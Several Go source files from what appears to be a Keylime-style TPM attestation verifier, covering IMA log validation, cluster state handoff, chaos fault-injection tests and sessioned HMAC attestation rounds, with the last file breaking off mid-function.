// in the invalid case).
//
// For batches of at least parallelVerifyThreshold entries and workers > 1,
// validation is chunked across a bounded worker pool; the fold itself is
// an inherently sequential extend chain and always runs in entry order.
func verifyAndFold(prefix tpm.Digest, entries []ima.Entry, workers int) (aggs []tpm.Digest, invalid int) {
	if len(entries) == 0 {
		return nil, -1
	}
	if workers > 1 && len(entries) >= parallelVerifyThreshold {
		if bad := validateParallel(entries, workers); bad >= 0 {
			return nil, bad
		}
		aggs = make([]tpm.Digest, len(entries))
		pcr := prefix
		for i := range entries {
			pcr = ima.ExtendAggregate(pcr, entries[i].TemplateHash)
			aggs[i] = pcr
		}
		return aggs, -1
	}
	aggs = make([]tpm.Digest, len(entries))
	pcr := prefix
	for i := range entries {
		if !entries[i].Valid() {
			return nil, i
		}
		pcr = ima.ExtendAggregate(pcr, entries[i].TemplateHash)
		aggs[i] = pcr
	}
	return aggs, -1
}

// validateParallel checks Entry.Valid over chunks of the batch from a
// bounded worker pool and returns the index of the first (lowest-index)
// invalid entry, or -1. A found invalid entry stops the remaining queue,
// but already-running chunks finish, so the minimum index is tracked
// explicitly rather than assumed from arrival order.
func validateParallel(entries []ima.Entry, workers int) int {
	chunks := (len(entries) + verifyChunk - 1) / verifyChunk
	if workers > chunks {
		workers = chunks
	}
	if workers > runtime.GOMAXPROCS(0) {
		workers = runtime.GOMAXPROCS(0)
	}
	var (
		wg      sync.WaitGroup
		nextIdx atomic.Int64
		bad     atomic.Int64
	)
	bad.Store(int64(len(entries)))
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for {
				c := int(nextIdx.Add(1)) - 1
				if c >= chunks {
					return
				}
				lo := c * verifyChunk
				if int64(lo) >= bad.Load() {
					// Everything past a known-invalid entry is moot.
					return
				}
				hi := lo + verifyChunk
				if hi > len(entries) {
					hi = len(entries)
				}
				for i := lo; i < hi; i++ {
					if !entries[i].Valid() {
						// Keep the minimum invalid index.
						for {
							cur := bad.Load()
							if int64(i) >= cur || bad.CompareAndSwap(cur, int64(i)) {
								break
							}
						}
						break
					}
				}
			}
		}()
	}
	wg.Wait()
	if b := bad.Load(); b < int64(len(entries)) {
		return int(b)
	}
	return -1
}
