package verifier

// Ring-range state transfer. A cluster handoff moves whole sets of agents
// between live verifiers: the losing node exports the rows the new
// assignment takes away, the coordinator ships them, and the gaining node
// imports them into its (running, non-empty) verifier. Unlike
// RestoreState this happens on a live fleet, so import is per-row lenient
// and replace-aware, and removal flags each agent so in-flight rounds
// abort with ErrRemoved instead of recording a verdict on the old owner.

import "fmt"

// ExportAgents serializes the named agents' rows. IDs not (or no longer)
// monitored are silently skipped — the caller's ID list is a snapshot,
// and churn during a handoff is expected.
func (v *Verifier) ExportAgents(ids []string) ([]AgentState, error) {
	out := make([]AgentState, 0, len(ids))
	for _, id := range ids {
		a, ok := v.agents.get(id)
		if !ok {
			continue
		}
		a.mu.Lock()
		as, err := exportAgentLocked(a)
		a.mu.Unlock()
		if err != nil {
			return nil, err
		}
		if as != nil {
			out = append(out, *as)
		}
	}
	return out, nil
}

// ExportWhere serializes every monitored agent the predicate selects —
// typically a consistent-hash ring range.
func (v *Verifier) ExportWhere(pred func(agentID string) bool) ([]AgentState, error) {
	ids := v.AgentIDs()
	sel := ids[:0]
	for _, id := range ids {
		if pred(id) {
			sel = append(sel, id)
		}
	}
	return v.ExportAgents(sel)
}

// ImportAgents loads serialized rows into a live verifier. replace
// controls collisions: true overwrites an existing row (the authoritative
// handoff transfer — the shipped row carries the frontier the old owner
// flushed), false keeps the existing row and skips the import (the
// replica-gather path, where a local row is at least as fresh). Corrupt
// rows are skipped and reported, never fatal: one bad row must not stall
// a failover that is re-homing a dead node's fleet.
func (v *Verifier) ImportAgents(states []AgentState, replace bool) []RestoreError {
	var skipped []RestoreError
	for _, as := range states {
		a, err := restoreAgent(as)
		if err != nil {
			skipped = append(skipped, newRestoreError(as.AgentID, err))
			continue
		}
		if v.agents.insert(as.AgentID, a) {
			v.markDirty(as.AgentID)
			continue
		}
		if !replace {
			skipped = append(skipped, RestoreError{
				AgentID: as.AgentID,
				Err:     fmt.Errorf("already monitored; import skipped"),
			})
			continue
		}
		if old, ok := v.agents.remove(as.AgentID); ok {
			old.mu.Lock()
			old.removed = true
			old.mu.Unlock()
		}
		if !v.agents.insert(as.AgentID, a) {
			// A concurrent enrollment won the race for the freed slot; the
			// row that made it in stays.
			skipped = append(skipped, RestoreError{
				AgentID: as.AgentID,
				Err:     fmt.Errorf("lost insert race during replace"),
			})
			continue
		}
		v.markDirty(as.AgentID)
	}
	return skipped
}

// RemoveAgents unenrolls the named agents (missing IDs are ignored) and
// reports how many were present. In-flight rounds observe the removal and
// abort without a verdict, exactly as single-agent RemoveAgent.
func (v *Verifier) RemoveAgents(ids []string) int {
	n := 0
	for _, id := range ids {
		if v.RemoveAgent(id) == nil {
			n++
		}
	}
	return n
}
