package verifier_test

// Chaos suite: the fault-injection harness (internal/keylime/faultinject)
// drives the verifier through multi-day simulated runs with a double-digit
// injected fault rate, asserting the paper-motivated invariants:
//
//   - transient infrastructure faults never escalate to FailureComms while
//     the fault budget holds, and never halt a healthy agent;
//   - injected integrity violations are still detected through the noise;
//   - a real outage escalates exactly once, quarantines via the circuit
//     breaker, and recovers automatically with the verification frontier
//     intact;
//   - a hung agent delays only its own round, not the fleet sweep.
//
// Tests run on the simulated clock: runWithClock advances virtual time
// whenever the round blocks on a timer (backoff sleep, request watchdog).

import (
	"context"
	"crypto/rand"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"repro/internal/keylime/agent"
	"repro/internal/keylime/faultinject"
	"repro/internal/keylime/registrar"
	"repro/internal/keylime/verifier"
	"repro/internal/machine"
	"repro/internal/policy"
	"repro/internal/simclock"
	"repro/internal/tpm"
	"repro/internal/vfs"
)

// quoteRequests matches only verifier→agent quote traffic, so enrollment
// and registrar lookups stay clean.
func quoteRequests(req *http.Request) bool {
	return req != nil && strings.Contains(req.URL.Path, "/quotes/")
}

// runWithClock runs fn to completion, advancing the simulated clock to the
// next pending timer deadline whenever fn stays blocked. A spuriously early
// watchdog fire (the clock advancing while a request is still progressing
// in real time) surfaces as a transient fault and is absorbed by the retry
// machinery, so assertions stay statistically robust.
func runWithClock(t *testing.T, clk *simclock.Simulated, fn func()) {
	t.Helper()
	done := make(chan struct{})
	go func() {
		defer close(done)
		fn()
	}()
	for {
		select {
		case <-done:
			return
		case <-time.After(2 * time.Millisecond):
			clk.AdvanceToNext()
		}
	}
}

// chaosRetryPolicy keeps virtual backoffs well below the poll interval.
func chaosRetryPolicy() verifier.RetryPolicy {
	return verifier.RetryPolicy{
		MaxAttempts:    3,
		InitialBackoff: 500 * time.Millisecond,
		MaxBackoff:     5 * time.Second,
		RequestTimeout: 10 * time.Second,
	}
}

func TestChaosTransientFaultsNeverEscalate(t *testing.T) {
	// A ~12% injected fault rate over a two-day simulated run: every round
	// must still reach a verdict or degrade gracefully — zero FailureComms,
	// zero halts, breaker never opens.
	ft := &faultinject.Transport{Plan: faultinject.Schedule{
		Rates: faultinject.Rates{
			Seed:     7,
			Reset:    0.04,
			Timeout:  0.03,
			Status:   0.03,
			SlowBody: 0.01,
			Truncate: 0.01,
		},
		Match: quoteRequests,
	}}
	clk := simclock.NewSimulated(time.Unix(1_700_000_000, 0))
	s := newStack(t, nil,
		verifier.WithClock(clk),
		verifier.WithHTTPClient(&http.Client{Transport: ft}),
		verifier.WithRetryPolicy(chaosRetryPolicy()),
		verifier.WithCommsFaultBudget(3),
	)
	writeExec(t, s.m, "/usr/bin/tool", "ok")
	addAgent(t, s, policyFromMachine(t, s.m))
	exec(t, s.m, "/usr/bin/tool")

	const rounds = 1500 // 2 min poll interval → ~50 simulated hours
	ctx := context.Background()
	degraded := 0
	for round := 0; round < rounds; round++ {
		if round%97 == 42 {
			// Fleet churn: new software lands and is executed mid-run.
			path := fmt.Sprintf("/usr/bin/pkg-%d", round)
			writeExec(t, s.m, path, fmt.Sprintf("bin-%d", round))
			if err := s.v.UpdatePolicy(s.m.UUID(), policyFromMachine(t, s.m)); err != nil {
				t.Fatalf("UpdatePolicy: %v", err)
			}
			exec(t, s.m, path)
		}
		runWithClock(t, clk, func() {
			res, err := s.v.AttestOnce(ctx, s.m.UUID())
			if err != nil {
				t.Errorf("round %d: AttestOnce: %v", round, err)
				return
			}
			if res.Failure != nil {
				t.Errorf("round %d: failure %+v from injected infrastructure faults", round, res.Failure)
			}
			if res.Degraded {
				degraded++
			}
		})
		if t.Failed() {
			t.FailNow()
		}
		clk.Advance(2 * time.Minute)
	}

	st, err := s.v.Status(s.m.UUID())
	if err != nil {
		t.Fatalf("Status: %v", err)
	}
	if len(st.Failures) != 0 {
		t.Fatalf("failures = %+v, want none over %d faulted-but-budgeted rounds", st.Failures, rounds)
	}
	if st.Halted {
		t.Fatal("healthy agent halted by transient faults")
	}
	if st.Breaker != verifier.BreakerClosed {
		t.Fatalf("breaker = %v, want closed", st.Breaker)
	}
	stats := ft.Stats()
	if stats.InjectedTotal() < rounds/12 {
		t.Fatalf("injected %d faults over %d requests, harness not exercising the pipeline",
			stats.InjectedTotal(), stats.Requests)
	}
	if st.Attestations < rounds*8/10 {
		t.Fatalf("attestations = %d of %d rounds, too many degraded rounds (%d)",
			st.Attestations, rounds, degraded)
	}
	t.Logf("rounds=%d attested=%d degraded=%d injected=%d/%d requests",
		rounds, st.Attestations, degraded, stats.InjectedTotal(), stats.Requests)
}

func TestChaosIntegrityViolationsDetectedThroughNoise(t *testing.T) {
	// Same fault storm, continue-on-failure enabled, with periodic real
	// integrity violations (unauthorized executions): every violation must
	// be detected despite the infrastructure noise, and no comms failure
	// may pollute the verdict stream.
	ft := &faultinject.Transport{Plan: faultinject.Schedule{
		Rates: faultinject.Rates{
			Seed:    99,
			Reset:   0.05,
			Timeout: 0.04,
			Status:  0.03,
		},
		Match: quoteRequests,
	}}
	clk := simclock.NewSimulated(time.Unix(1_700_000_000, 0))
	s := newStack(t, nil,
		verifier.WithClock(clk),
		verifier.WithHTTPClient(&http.Client{Transport: ft}),
		verifier.WithRetryPolicy(chaosRetryPolicy()),
		verifier.WithCommsFaultBudget(3),
		verifier.WithContinueOnFailure(true),
	)
	writeExec(t, s.m, "/usr/bin/tool", "ok")
	addAgent(t, s, policyFromMachine(t, s.m))
	exec(t, s.m, "/usr/bin/tool")

	const rounds = 600
	const violationEvery = 60
	ctx := context.Background()
	injected := 0
	for round := 0; round < rounds; round++ {
		if round > 0 && round%violationEvery == 0 {
			// An attacker drops and runs an unauthorized binary.
			path := fmt.Sprintf("/tmp/implant-%d", round)
			writeExec(t, s.m, path, fmt.Sprintf("evil-%d", round))
			exec(t, s.m, path)
			injected++
		}
		runWithClock(t, clk, func() {
			if _, err := s.v.AttestOnce(ctx, s.m.UUID()); err != nil {
				t.Errorf("round %d: AttestOnce: %v", round, err)
			}
		})
		if t.Failed() {
			t.FailNow()
		}
		clk.Advance(2 * time.Minute)
	}

	st, err := s.v.Status(s.m.UUID())
	if err != nil {
		t.Fatalf("Status: %v", err)
	}
	if st.Halted {
		t.Fatal("agent halted under continue-on-failure")
	}
	detected := 0
	for _, f := range st.Failures {
		switch f.Type {
		case verifier.FailureNotInPolicy:
			detected++
		case verifier.FailureComms:
			t.Fatalf("comms escalation %+v leaked into the verdict stream", f)
		default:
			t.Fatalf("unexpected failure %+v", f)
		}
	}
	if detected != injected {
		t.Fatalf("detected %d of %d injected integrity violations", detected, injected)
	}
}

func TestChaosOutageQuarantineAndAutoRecovery(t *testing.T) {
	// A hard outage: every quote request faults until the toggle flips
	// back. The fault budget escalates exactly one FailureComms, the
	// breaker quarantines the agent at a capped reprobe interval, and when
	// the agent returns, polling resumes on its own with the verification
	// frontier intact.
	tg := faultinject.NewToggle(faultinject.Fault{Kind: faultinject.Reset}, quoteRequests)
	ft := &faultinject.Transport{Plan: tg}
	clk := simclock.NewSimulated(time.Unix(1_700_000_000, 0))
	s := newStack(t, nil,
		verifier.WithClock(clk),
		verifier.WithHTTPClient(&http.Client{Transport: ft}),
		verifier.WithRetryPolicy(chaosRetryPolicy()),
		verifier.WithCommsFaultBudget(2),
		verifier.WithCircuitBreaker(verifier.BreakerConfig{
			Threshold:       3,
			InitialInterval: 4 * time.Minute,
			MaxInterval:     16 * time.Minute,
		}),
	)
	writeExec(t, s.m, "/usr/bin/tool", "ok")
	addAgent(t, s, policyFromMachine(t, s.m))
	exec(t, s.m, "/usr/bin/tool")

	ctx := context.Background()
	id := s.m.UUID()
	runWithClock(t, clk, func() {
		if res, err := s.v.AttestOnce(ctx, id); err != nil || res.Failure != nil {
			t.Errorf("baseline round: res=%+v err=%v", res, err)
		}
	})
	if t.Failed() {
		t.FailNow()
	}
	baseline, _ := s.v.Status(id)

	tg.Set(true)
	// Rounds 1..3 all fault: escalation at round 2 (budget), breaker opens
	// at round 3 (threshold).
	for round := 1; round <= 3; round++ {
		clk.Advance(2 * time.Minute)
		runWithClock(t, clk, func() {
			res, err := s.v.AttestOnce(ctx, id)
			if err != nil {
				t.Errorf("outage round %d: %v", round, err)
				return
			}
			if !res.Degraded {
				t.Errorf("outage round %d not degraded: %+v", round, res)
			}
			if (res.Failure != nil) != (round == 2) {
				t.Errorf("outage round %d failure = %+v, escalation expected only at the budget", round, res.Failure)
			}
		})
		if t.Failed() {
			t.FailNow()
		}
	}
	st, _ := s.v.Status(id)
	if st.State != verifier.StateQuarantined || st.Breaker != verifier.BreakerOpen {
		t.Fatalf("status after outage = %+v, want quarantined with open breaker", st)
	}
	if st.Halted {
		t.Fatal("outage halted the agent")
	}

	// While the breaker is open, rounds are skipped without touching the
	// network.
	before := ft.Stats().Requests
	if _, err := s.v.AttestOnce(ctx, id); !errors.Is(err, verifier.ErrQuarantined) {
		t.Fatalf("AttestOnce during quarantine: %v, want ErrQuarantined", err)
	}
	if ft.Stats().Requests != before {
		t.Fatal("quarantined round still contacted the agent")
	}

	// Reprobe deadline passes; the half-open probe fails and re-opens with
	// a doubled interval.
	clk.Advance(5 * time.Minute)
	runWithClock(t, clk, func() {
		if res, err := s.v.AttestOnce(ctx, id); err != nil || !res.Degraded {
			t.Errorf("half-open probe: res=%+v err=%v, want degraded", res, err)
		}
	})
	if t.Failed() {
		t.FailNow()
	}
	st, _ = s.v.Status(id)
	if st.Breaker != verifier.BreakerOpen {
		t.Fatalf("breaker after failed probe = %v, want re-opened", st.Breaker)
	}

	// The outage ends; the next probe closes the breaker and attestation
	// picks up exactly where it left off.
	tg.Set(false)
	clk.Advance(10 * time.Minute)
	runWithClock(t, clk, func() {
		res, err := s.v.AttestOnce(ctx, id)
		if err != nil || res.Failure != nil || res.Degraded {
			t.Errorf("recovery round: res=%+v err=%v", res, err)
		}
	})
	if t.Failed() {
		t.FailNow()
	}
	st, _ = s.v.Status(id)
	if st.State != verifier.StateAttesting || st.Breaker != verifier.BreakerClosed || st.ConsecutiveFaults != 0 {
		t.Fatalf("status after recovery = %+v, want attesting with closed breaker", st)
	}
	if st.VerifiedEntries != baseline.VerifiedEntries {
		t.Fatalf("verification frontier moved during outage: %d != %d",
			st.VerifiedEntries, baseline.VerifiedEntries)
	}
	comms := 0
	for _, f := range st.Failures {
		if f.Type == verifier.FailureComms {
			comms++
		}
	}
	if comms != 1 {
		t.Fatalf("FailureComms count = %d, want exactly 1 for the whole outage", comms)
	}
}

// rebootBlipPlan faults the first `left` refetch requests (offset=0) once
// armed — a network blip exactly in the reboot-detection window.
type rebootBlipPlan struct {
	mu    sync.Mutex
	armed bool
	left  int
}

func (p *rebootBlipPlan) Decide(_ int, req *http.Request) faultinject.Fault {
	p.mu.Lock()
	defer p.mu.Unlock()
	if !p.armed || p.left == 0 || req == nil ||
		!strings.Contains(req.URL.RawQuery, "offset=0") || !quoteRequests(req) {
		return faultinject.Fault{}
	}
	p.left--
	return faultinject.Fault{Kind: faultinject.Reset}
}

func TestRebootDetectedThroughNetworkBlip(t *testing.T) {
	// The agent reboots AND the refetch-from-zero hits transient faults:
	// the refetch must retry under the same policy instead of converting
	// the blip into a verdict, and reboot handling must then complete.
	plan := &rebootBlipPlan{}
	ft := &faultinject.Transport{Plan: plan}
	s := newStack(t, nil,
		verifier.WithHTTPClient(&http.Client{Transport: ft}),
		verifier.WithRetryPolicy(verifier.RetryPolicy{
			MaxAttempts:    3,
			InitialBackoff: time.Millisecond,
			RequestTimeout: time.Second,
		}),
	)
	writeExec(t, s.m, "/usr/bin/tool", "ok")
	addAgent(t, s, policyFromMachine(t, s.m))
	exec(t, s.m, "/usr/bin/tool")
	if res := attest(t, s); res.VerifiedEntries != 2 {
		t.Fatalf("baseline = %+v", res)
	}

	if err := s.m.Reboot(); err != nil {
		t.Fatalf("Reboot: %v", err)
	}
	plan.mu.Lock()
	plan.armed, plan.left = true, 2
	plan.mu.Unlock()

	res := attest(t, s)
	if !res.RebootDetected {
		t.Fatal("reboot not detected through the blip")
	}
	if res.Degraded || res.Failure != nil {
		t.Fatalf("blip during reboot produced a verdict: %+v", res)
	}
	// 1 attempt at the old offset + 3 refetch attempts (2 faulted).
	if res.Attempts != 4 {
		t.Fatalf("Attempts = %d, want 4", res.Attempts)
	}
	if res.VerifiedEntries != 1 { // fresh boot aggregate
		t.Fatalf("VerifiedEntries after reboot = %d, want 1", res.VerifiedEntries)
	}
}

func TestHungAgentDelaysOnlyItsOwnRound(t *testing.T) {
	// Fleet sweep with one hung agent (accepted connection, body never
	// arrives): the three healthy agents must complete in real time while
	// the hung round is still pending, and the sweep ends once the virtual
	// request watchdog cuts the hung round off.
	ca, err := tpm.NewManufacturerCA(rand.Reader)
	if err != nil {
		t.Fatalf("NewManufacturerCA: %v", err)
	}
	reg := registrar.New(ca.Pool())
	regSrv := httptest.NewServer(reg.Handler())
	t.Cleanup(regSrv.Close)

	const fleet = 4
	var hungHost string
	tg := faultinject.NewToggle(faultinject.Fault{Kind: faultinject.SlowBody},
		func(req *http.Request) bool {
			return req != nil && req.URL.Host == hungHost && quoteRequests(req)
		})
	ft := &faultinject.Transport{Plan: tg}
	clk := simclock.NewSimulated(time.Unix(1_700_000_000, 0))
	v := verifier.New(regSrv.URL,
		verifier.WithClock(clk),
		verifier.WithHTTPClient(&http.Client{Transport: ft}),
		verifier.WithRetryPolicy(verifier.RetryPolicy{
			MaxAttempts:    2,
			InitialBackoff: time.Second,
			RequestTimeout: 30 * time.Second,
		}),
		verifier.WithPollConcurrency(fleet),
	)

	var healthy []string
	for i := 0; i < fleet; i++ {
		m, err := machine.New(ca,
			machine.WithTPMOptions(tpm.WithEKBits(1024)),
			machine.WithUUID(fmt.Sprintf("chaos-%02d-4a97-9ef7-75bd81c000%02d", i, i)),
		)
		if err != nil {
			t.Fatalf("machine %d: %v", i, err)
		}
		ag := agent.New(m)
		srv := httptest.NewServer(ag.Handler())
		t.Cleanup(srv.Close)
		if err := ag.Register(regSrv.URL, srv.URL); err != nil {
			t.Fatalf("Register %d: %v", i, err)
		}
		pol := policyFromMachine(t, m)
		if err := v.AddAgent(m.UUID(), srv.URL, pol); err != nil {
			t.Fatalf("AddAgent %d: %v", i, err)
		}
		if i == 0 {
			hungHost = strings.TrimPrefix(srv.URL, "http://")
		} else {
			healthy = append(healthy, m.UUID())
		}
	}
	tg.Set(true)

	done := make(chan verifier.PollStats, 1)
	go func() { done <- v.PollAll(context.Background()) }()

	// The healthy rounds finish in real time with NO clock advancement:
	// they are provably not queued behind the hung agent.
	deadline := time.Now().Add(5 * time.Second)
	for {
		n := 0
		for _, id := range healthy {
			if st, err := v.Status(id); err == nil && st.Attestations == 1 {
				n++
			}
		}
		if n == len(healthy) {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("healthy agents attested = %d of %d while one agent hung", n, len(healthy))
		}
		time.Sleep(time.Millisecond)
	}
	select {
	case st := <-done:
		t.Fatalf("PollAll returned %+v while an agent was still hung", st)
	default:
	}

	// Release the hung round: advance virtual time through its request
	// watchdogs and retry backoff.
	var stats verifier.PollStats
	for {
		select {
		case stats = <-done:
		case <-time.After(2 * time.Millisecond):
			clk.AdvanceToNext()
			continue
		}
		break
	}
	if stats.Attested != fleet-1 || stats.Degraded != 1 || stats.Halted != 0 {
		t.Fatalf("PollAll = %+v, want %d attested and 1 degraded", stats, fleet-1)
	}
}

// BenchmarkPollAllUnderFaults measures fleet sweep throughput with a ~10%
// injected fault rate on the real clock: the robustness machinery's
// steady-state overhead, not its outage behaviour.
func BenchmarkPollAllUnderFaults(b *testing.B) {
	ca, err := tpm.NewManufacturerCA(rand.Reader)
	if err != nil {
		b.Fatalf("NewManufacturerCA: %v", err)
	}
	reg := registrar.New(ca.Pool())
	regSrv := httptest.NewServer(reg.Handler())
	defer regSrv.Close()
	ft := &faultinject.Transport{Plan: faultinject.Schedule{
		Rates: faultinject.Rates{Seed: 3, Reset: 0.05, Status: 0.05},
		Match: quoteRequests,
	}}
	v := verifier.New(regSrv.URL,
		verifier.WithHTTPClient(&http.Client{Transport: ft}),
		verifier.WithRetryPolicy(verifier.RetryPolicy{
			MaxAttempts:    3,
			InitialBackoff: time.Millisecond,
			MaxBackoff:     4 * time.Millisecond,
			RequestTimeout: 5 * time.Second,
		}),
		verifier.WithCommsFaultBudget(1 << 30),
	)
	const fleet = 8
	for i := 0; i < fleet; i++ {
		m, err := machine.New(ca,
			machine.WithTPMOptions(tpm.WithEKBits(1024)),
			machine.WithUUID(fmt.Sprintf("bench-%02d-4a97-9ef7-75bd81c000%02d", i, i)),
		)
		if err != nil {
			b.Fatalf("machine %d: %v", i, err)
		}
		ag := agent.New(m)
		srv := httptest.NewServer(ag.Handler())
		defer srv.Close()
		if err := ag.Register(regSrv.URL, srv.URL); err != nil {
			b.Fatalf("Register %d: %v", i, err)
		}
		if err := v.AddAgent(m.UUID(), srv.URL, policyFromMachineTB(b, m)); err != nil {
			b.Fatalf("AddAgent %d: %v", i, err)
		}
	}
	ctx := context.Background()
	b.ResetTimer()
	attested, degraded := 0, 0
	for i := 0; i < b.N; i++ {
		stats := v.PollAll(ctx)
		if stats.Attested+stats.Degraded != fleet || stats.Failed != 0 || stats.Halted != 0 {
			b.Fatalf("PollAll = %+v", stats)
		}
		attested += stats.Attested
		degraded += stats.Degraded
	}
	b.ReportMetric(float64(fleet), "agents/round")
	if attested+degraded > 0 {
		b.ReportMetric(100*float64(degraded)/float64(attested+degraded), "degraded%")
	}
}

// policyFromMachineTB is policyFromMachine for benchmarks (testing.TB).
func policyFromMachineTB(tb testing.TB, m *machine.Machine) *policy.RuntimePolicy {
	tb.Helper()
	pol := policy.New()
	err := m.FS().Walk("/", func(info vfs.FileInfo) error {
		if info.Mode.IsExec() {
			pol.Add(info.Path, info.Digest)
		}
		return nil
	})
	if err != nil {
		tb.Fatalf("Walk: %v", err)
	}
	return pol
}
