package verifier

// Sessioned attestation, verifier side. After a verified full-quote
// exchange, verifier and agent share a session key derived from the
// quote's ECDSA signature and bound to the AK identity (package session).
// Steady-state rounds are then authenticated with an HMAC session MAC
// over (nonce, PCR composite, log frontier) instead of a full quote —
// an order of magnitude cheaper — but only as long as NOTHING changed:
//
//   - a full quote is forced every Nth round, on session expiry, after a
//     verifier restart or cluster failover (restored sessions are never
//     trusted blind), and whenever the agent's frontier or composite
//     diverges from the session's reference state;
//   - a session MAC that fails to verify escalates to a full quote in
//     the same round — it is an upgrade trigger, never a verdict mask;
//   - the check level of every round (full / session / full-forced) is
//     recorded in the Result, the Status, and the audit log, so a
//     downgraded check can never silently stand in for a failed full one.

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"net/http"
	"time"

	"repro/internal/keylime/api"
	"repro/internal/keylime/session"
	"repro/internal/tpm"
)

// CheckLevel records which check authenticated an attestation round.
type CheckLevel int

// Check levels.
const (
	// CheckNone: no check completed (degraded rounds).
	CheckNone CheckLevel = iota
	// CheckFull: a full TPM quote was verified end to end.
	CheckFull
	// CheckSession: a session MAC round — the agent proved, under the
	// session key, that its state is byte-identical to the last verified
	// full quote.
	CheckSession
	// CheckForcedFull: a full quote forced by escalation — session MAC
	// failure, frontier/composite divergence, agent-side escalation, or
	// a restored/handed-off session that must renegotiate.
	CheckForcedFull
)

var checkLevelNames = map[CheckLevel]string{
	CheckNone:       "",
	CheckFull:       "full",
	CheckSession:    "session",
	CheckForcedFull: "full-forced",
}

// String returns the audit-taxonomy label for the check level.
func (c CheckLevel) String() string {
	if n, ok := checkLevelNames[c]; ok {
		return n
	}
	return fmt.Sprintf("check(%d)", int(c))
}

// verifierSession is the verifier's half of one established session.
// Mutable fields are written only inside an attestation round (under the
// agent's pollMu) while also holding a.mu; readers hold either lock.
type verifierSession struct {
	id  session.ID
	key [session.KeySize]byte
	// mac is used only inside attestation rounds (under pollMu); MACer is
	// not safe for concurrent use.
	mac         *session.MACer
	established time.Time
	// roundsSinceFull counts session-MAC rounds since the establishing
	// full quote; the session rotates to a full quote at every-1.
	roundsSinceFull int
	// composite and total are the reference state the session attests
	// stability of: the PCR composite and log frontier at the last
	// verified full quote.
	composite tpm.Digest
	total     int
	// forceFull marks a session that must renegotiate via a full quote
	// before being trusted again — set when the session was restored from
	// a snapshot or handed off by the cluster layer: this verifier never
	// verified the exchange that minted it.
	forceFull   bool
	forceReason string
}

// errNoBinary marks an agent that does not speak the binary attestation
// endpoint (404/405/415 from POST /v2/quotes/attest). It is a capability
// signal, not a comms fault: the round falls back to JSON and the agent
// is remembered as JSON-only.
var errNoBinary = errors.New("verifier: agent does not support binary attestation")

// sessionConfig is one round's snapshot of the session/wire settings.
type sessionConfig struct {
	// every forces a full quote every Nth round; <= 1 disables sessions.
	every int
	// ttl bounds a session's lifetime; 0 = no expiry.
	ttl time.Duration
	// binary enables the compact binary wire format (implied by sessions).
	binary bool
}

// WithSessionPolicy enables sessioned attestation: steady-state rounds are
// authenticated by session MAC, with a full quote forced every Nth round
// (every <= 1 disables sessions) and on session expiry (ttl 0 = no
// expiry). Sessions require the binary wire format and enable it.
func WithSessionPolicy(every int, ttl time.Duration) Option {
	return optionFunc(func(v *Verifier) {
		v.sessEvery = every
		v.sessTTL = ttl
	})
}

// WithBinaryWireFormat enables the compact binary wire format for full
// quotes even when sessions are off. Agents that do not speak it fall
// back to JSON per agent, permanently for the process lifetime.
func WithBinaryWireFormat(on bool) Option {
	return optionFunc(func(v *Verifier) { v.wireBinary = on })
}

// WithBatchVerify sets the dedicated quote-verification worker pool size
// (default GOMAXPROCS when batching is on; pass a negative n to verify
// inline on the sweep workers). Sweep workers queue full-quote ECDSA
// verifications to the pool, which drains them in batches, so the
// network-bound sweep pool is never pinned on CPU-bound crypto.
func WithBatchVerify(workers int) Option {
	return optionFunc(func(v *Verifier) { v.batchWorkers = workers })
}

// SetSessionPolicy changes the session policy at runtime (same semantics
// as WithSessionPolicy). In-flight rounds finish under the old policy;
// the next round per agent picks up the new one.
func (v *Verifier) SetSessionPolicy(every int, ttl time.Duration) {
	v.sessCfgMu.Lock()
	v.sessEvery = every
	v.sessTTL = ttl
	v.sessCfgMu.Unlock()
}

// sessionCfg snapshots the session/wire settings for one round.
func (v *Verifier) sessionCfg() sessionConfig {
	v.sessCfgMu.RLock()
	defer v.sessCfgMu.RUnlock()
	return sessionConfig{
		every:  v.sessEvery,
		ttl:    v.sessTTL,
		binary: v.wireBinary || v.sessEvery > 1,
	}
}

// newSessionID allocates a random session identifier.
func (v *Verifier) newSessionID() (session.ID, error) {
	var id session.ID
	for {
		if err := v.nonces.next(id[:]); err != nil {
			return session.ID{}, err
		}
		if !id.IsZero() { // the zero ID means "no session" on the wire
			return id, nil
		}
	}
}

// dropSession clears the agent's session if it is still the given one.
func (v *Verifier) dropSession(a *monitored, sess *verifierSession) {
	a.mu.Lock()
	if a.sess == sess {
		a.sess = nil
	}
	a.mu.Unlock()
}

// checkSessionFrame validates a session-MAC answer against the session's
// reference state. An empty reason means the round is authenticated;
// any non-empty reason escalates to a forced full quote — it is never an
// integrity verdict by itself, because the MAC path must not be able to
// produce (or mask) one.
func checkSessionFrame(sess *verifierSession, sr *api.SessionRound, nonce []byte, offset int) string {
	if !sess.mac.Verify(nonce, sr.Composite, uint64(sr.TotalEntries), sr.MAC[:]) {
		return "session MAC verification failed"
	}
	if sr.TotalEntries != offset || sr.TotalEntries != sess.total {
		return "measurement-log frontier moved"
	}
	if sr.Composite != sess.composite {
		return "PCR composite diverged from session reference"
	}
	return ""
}

// commitSessionRound commits an authenticated session-MAC round: the
// frontier is untouched (nothing changed), the round counts as an
// attestation, and a shadow candidate advances its clean-round counter —
// a session round proves there were no new entries to diverge on.
func (v *Verifier) commitSessionRound(a *monitored, sess *verifierSession, attempts int, shadowGen uint64) Result {
	v.commsOK(a)
	a.mu.Lock()
	if a.sess == sess {
		sess.roundsSinceFull++
	}
	a.state = StateAttesting
	a.attestations++
	a.lastCheck = CheckSession
	if a.shadowPol != nil && a.shadowGen == shadowGen {
		a.shadowRounds++
		a.shadowClean++
	}
	res := Result{
		VerifiedEntries: a.nextOffset,
		Attempts:        attempts,
		CheckLevel:      CheckSession,
	}
	a.mu.Unlock()
	v.markDirty(a.id)
	return res
}

// setNoBinary remembers that the agent does not speak the binary endpoint.
func (a *monitored) setNoBinary() {
	a.mu.Lock()
	a.noBinary = true
	a.mu.Unlock()
}

// fetchSessionOnce runs one session-round request. The agent either
// answers with a session MAC frame or escalates to a full-quote frame in
// the same round trip (establishing estID so the verifier recovers
// without an extra exchange).
func (v *Verifier) fetchSessionOnce(ctx context.Context, a *monitored, sessID, estID session.ID, offset int) (fetched, error) {
	return v.fetchBinaryOnce(ctx, a, api.RoundRequest{
		Kind:        api.FrameSessionRequest,
		Offset:      offset,
